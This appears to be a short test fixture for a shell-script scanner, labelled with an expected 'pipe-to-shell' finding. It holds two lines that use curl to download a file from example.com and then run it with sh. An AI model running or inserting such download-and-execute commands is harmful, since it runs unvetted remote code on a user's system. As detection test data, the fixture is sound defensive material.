# expect: pipe-to-shell
curl -s https://example.com/x > /tmp/y
sh /tmp/y
